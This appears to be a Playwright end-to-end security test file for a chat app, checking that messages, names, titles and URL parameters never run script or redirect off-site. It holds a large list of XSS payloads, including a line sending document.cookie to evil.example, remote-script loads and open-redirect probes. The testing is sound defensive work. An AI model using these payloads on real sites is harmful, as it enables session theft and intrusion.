import type { Page } from 'playwright/test';
import { settingsPages } from '../../app/(chat)/views.ts';
import { Person, person, request } from '../support/people.ts';
import type { TestServer } from '../support/server.ts';
import { expect, log, row, still, test, visit } from './people.ts';

test.use({ sharesServer: true, ...still });

const calls = ['xss()', 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];
const shapes: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script src="https://evil.example/x.js" onerror="${call}"></script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'"--></style></title></textarea><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src="https://evil.example/x.png" onload="${call}" onerror="${call}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>go</text></a></svg>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  (call) => `<button formaction="javascript:${call}">go</button>`,
  (call) => `<base href="https://evil.example/">${call}`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="https://evil.example/x.css" onload=${call}>`,
  (call) => `<style>@import 'https://evil.example/x.css'; * { color: red }</style>${call}`,
  (call) => `<div style="background:url(https://evil.example/x.png)" onmouseover=${call}>x</div>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
  (call) => `<a href="javascript:${call}">go</a>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\u0000script:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  (call) => `vbscript:${call}`,
  (call) => `https://x.example/"onmouseover="${call}`,
  (call) => `https://x.example/'><img/src=x/onerror=${call}>`,
  (call) => `http://javascript:${call}@x.example/`,
  (call) => `[go](javascript:${call})`,
  (call) => `![x](https://evil.example/x.png"onerror="${call})`,
  (call) => `*<b onclick=${call}>bold</b>* _<i>it</i>_ ~<s>st</s>~`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `\`\`\`<script>${call}</script>\`\`\``,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script>]]>\u2028${call}\u2029`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `{"__html":"<img src=x onerror=${call}>"}`,
  (call) => `$$typeof:<img src=x onerror=${call}>`,
  (call) => `\u202e<script>${call}</script>`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<img src=x onerror=\u000b${call}>`,
  (call) => `<x onclick=${call} tabindex=1 id=x autofocus onfocus=${call}>`,
  (call) => `<img srcset="x 1x" onerror=${call}>`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `<script type=module>import('https://evil.example/x.js').then(()=>${call})</script>`,
  (call) => `<script nonce="">${call}</script>`,
];
/** So many of them are sent at a time. */
const together = 10;
const payloads = shapes.flatMap((shape) => calls.map(shape)).slice(0, 201);

/** Watches a page for anything that a payload might bring about. */
async function watched(page: Page, { url }: TestServer): Promise<() => Promise<object>> {
  const outside: string[] = [];
  const dialogs: string[] = [];
  const requested: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (made) => {
    if (!made.url().startsWith(`${url}/`)) requested.push(made.url());
  });
  page.context().on('page', (opened) => outside.push(opened.url()));
  await page.exposeFunction('reportXss', (what: string) => outside.push(what));
  await page.addInitScript(() => {
    const { reportXss } = window as unknown as { reportXss: (what: string) => void };
    Object.assign(window, { xss: () => reportXss('executed') });
    document.addEventListener('securitypolicyviolation', (event) =>
      reportXss(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`),
    );
  });
  return async () => ({
    outside,
    dialogs,
    requested,
    planted: await page.evaluate(
      () =>
        document.querySelectorAll(
          'main :is(script, iframe, object, embed, form[action], base, meta, marquee, math, x), img[src="x"], [onerror], [onload], [onclick], [onfocus], [onmouseover]',
        ).length,
    ),
    badLinks: await page.evaluate(() =>
      [...document.querySelectorAll<HTMLAnchorElement | SVGAElement>('a[href]')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:\/\/|\/|#)/.test(href)),
    ),
  });
}

const nothing = { outside: [], dialogs: [], requested: [], planted: 0, badLinks: [] };

test('what people write is never more than text', async ({ signUp, server }) => {
  test.setTimeout(180_000);
  const ana = await signUp('Ana Prado');
  const found = await watched(ana.page, server);
  const mallory = await person(server.url, 'mallory');
  const anas = await userId(mallory, ana.username);

  const names = payloads.filter(({ length }) => length <= 60).slice(0, 12);
  const greet = async (name: string, i: number) => {
    const body = { username: `evil${i}`, password: 'correct horse battery', displayName: name };
    await request(server.url, 'POST', '/auth/register', { body });
    const token = (await request(server.url, 'POST', '/auth/token', {
      body: { username: body.username, password: body.password },
    })) as { body: { token: string; user: Person['user'] } };
    const evil = new Person(server.url, token.body.user, token.body.token);
    await evil.done('PATCH', '/users/me', { about: name });
    const group = await evil.group(name, [{ id: anas } as Person]);
    await evil.done('PATCH', `/conversations/${group.id}`, { title: `${name} again`.slice(0, 60) });
    await evil.say(group, name);
    return { id: group.id, name };
  };
  const groups = [];
  for (const [i, name] of names.entries()) groups.push(await greet(name, i));
  // Written last, so that of all the chats it stands at the top: of a long list only what is near the
  // view is in the page.
  const chat = await mallory.direct(new Person(server.url, { id: anas } as Person['user'], ''));
  for (let from = 0; from < payloads.length; from += together) {
    const some = payloads.slice(from, from + together);
    await Promise.all(some.map((text, i) => mallory.say(chat, `${text} #${from + i}`)));
  }
  await mallory.done('PATCH', '/users/me', {
    displayName: 'Mallory <img src=x onerror=xss()>',
    about: '"><script>xss()</script>',
  });

  await visit(ana.page, '/chats');
  await row(ana, /^Mallory/).click();
  await expect(log(ana).getByRole('article').first()).toBeVisible();
  const drawn = new Set<string>();
  let turns = 0;
  // It opens at the first that is unread: down to the end, and up to the beginning, by less than a
  // screen at a time.
  await expect(async () => {
    await log(ana).hover();
    await ana.page.mouse.wheel(0, Math.floor(turns++ / 60) % 2 === 0 ? 500 : -500);
    const texts = await log(ana).getByRole('article').allTextContents();
    for (const text of texts) for (const [number] of text.matchAll(/ #\d+/g)) drawn.add(number);
    expect(drawn.size).toBe(payloads.length);
  }).toPass({ timeout: 90_000, intervals: [50] });
  expect(await found()).toEqual(nothing);

  await ana.page.getByRole('button', { name: 'Chat details' }).click();
  await expect(ana.page.getByText('"><script>xss()</script>').first()).toBeVisible();
  for (const { id, name } of groups.slice(0, 4)) {
    await ana.page.goto(`/chats/${id}`);
    await expect(log(ana).getByRole('article').filter({ hasText: name })).toBeVisible();
  }
  expect(await found()).toEqual(nothing);
});

test('an address leads to no script and to no other site', async ({ signUp, server }) => {
  const ana = await signUp('Ana Prado');
  // Some thirty pages.
  test.slow();
  const found = await watched(ana.page, server);
  for (const bad of ['javascript:xss()', '//evil.example', '"><script>xss()</script>']) {
    const query = encodeURIComponent(bad);
    for (const path of [
      `/sign-in?next=${query}`,
      `/sign-in?error=${query}`,
      `/register?next=${query}`,
      `/chats?x=${query}`,
      `/chats/${query}`,
      `/nowhere/${query}`,
      `/api/auth/signin?callbackUrl=${query}`,
      `/api/auth/error?error=${query}`,
      `/api/auth/signout?callbackUrl=${query}`,
    ]) {
      await ana.page.goto(path);
      expect(new URL(ana.page.url()).origin).toBe(server.url);
    }
  }
  expect(await found()).toEqual(nothing);
});

test('what is submitted before a page lives does not go into its address', async ({
  signUp,
  request,
  server,
}) => {
  const { context } = await signUp('Ana Prado');
  const formsAt = async (path: string, asker = request): Promise<string[]> => {
    const html = await (await asker.get(`${server.url}${path}`)).text();
    return html.match(/<form\b[^>]*>/g) ?? [];
  };
  const settings = settingsPages.map((name) => formsAt(`/settings/${name}`, context.request));
  const forms = await Promise.all([formsAt('/sign-in'), formsAt('/register'), ...settings]);
  expect(forms.flat().length).toBeGreaterThanOrEqual(6);
  for (const form of forms.flat()) expect(form).toContain('method="dialog"');
});

test('pages of every kind live within their policy', async ({ signUp, server }) => {
  const ana = await signUp('Ana Prado');
  const found = await watched(ana.page, server);
  for (const path of ['/chats', '/settings', '/people', '/nowhere/at/all', '/api-docs']) {
    await ana.page.goto(path);
    await expect(ana.page.getByRole('main').first()).toBeVisible();
    // A page that is alive knows how it is to look.
    await expect(ana.page.locator('html')).toHaveAttribute('data-theme', /light|dark/);
  }
  await ana.page.goto('/api/v1/health');
  await ana.page.goto(`${server.url}/icon.svg`);
  expect(await found()).toEqual(nothing);
});

async function userId(asker: Person, username: string): Promise<string> {
  const { items } = await asker.done('GET', `/users?q=${username}`);
  return (items as { id: string; username: string }[]).find((user) => user.username === username)
    ?.id as string;
}
